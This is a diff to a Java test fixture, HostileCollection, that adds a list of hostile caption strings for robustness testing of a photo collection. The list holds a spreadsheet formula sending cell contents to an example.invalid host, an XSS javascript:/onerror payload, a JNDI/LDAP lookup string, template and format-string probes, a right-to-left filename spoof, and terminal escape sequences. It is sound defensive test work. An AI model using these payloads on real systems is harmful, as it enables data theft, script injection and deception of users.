@@ -42,6 +42,17 @@ public final class HostileCollection {
     private static final String ARABIC = "صورة الميناء \u2067abc\u2069";
     private static final String STACKED = "e\u0301\u0308\u0323".repeat(40) + " 👩‍🔬🏳️‍🌈";
 
+    /** What a spreadsheet would reckon, a browser run, a template fill in, a terminal obey, a reader take for an end. */
+    public static final List<String> ATTACKS = List.of(
+            "=HYPERLINK(\"http://example.invalid/?\"&A1,\"open\")",
+            "javascript:alert(document.domain)//<img src=x onerror=alert(1)>",
+            "${jndi:ldap://example.invalid/a} #{7*7} %s %n %08x {0} {{7*7}} ]]>",
+            "one\u2028two\u2029three\u0085four\u000Bfive",
+            "half \uD83D of a pair, and \uDC00 another",
+            "\u202Egpj.exe\u2066\u2069\u200B\uFEFF",
+            "\u001B]0;owned\u0007\u001B[2J\u009B31m\u0090q\u009C\b\u007F",
+            "a" + "\u0301".repeat(500));
+
     private HostileCollection() {}
 
     public static CollectionOnDisk make() {
@@ -65,6 +76,9 @@ public final class HostileCollection {
         holdings.add(saying(NAME + ".jpg", "A name for the disk.", "en"));
         holdings.add(saying("empty.jpg", "", ""));
         holdings.add(saying("controls.jpg", "\u0000\u0007\u001B[31m\uFFFE\u0085", "x-klingon-und-noch-etwas"));
+        for (String attack : ATTACKS) {
+            holdings.add(saying("attack-" + ATTACKS.indexOf(attack) + ".jpg", attack, "en"));
+        }
         holdings.add(Given.holding("silent.jpg", new Loaded.Absent(Given.bare("silent.jpg"))));
         holdings.add(Given.holding("bare.jpg", Given.bare("bare.jpg")));
         holdings.add(many());
@@ -82,7 +96,7 @@ public final class HostileCollection {
     }
 
     /** A photograph of which one text is said wherever something can be said. */
-    private static Holding saying(String file, String text, String language) {
+    public static Holding saying(String file, String text, String language) {
         int number = Math.floorMod(file.hashCode(), 1_000_000) * 10;
         Statement lead = told(Given.caveat(number, Kind.BEFORE, ""), text, language)
                 .with(StatementFields.LEAD, true)
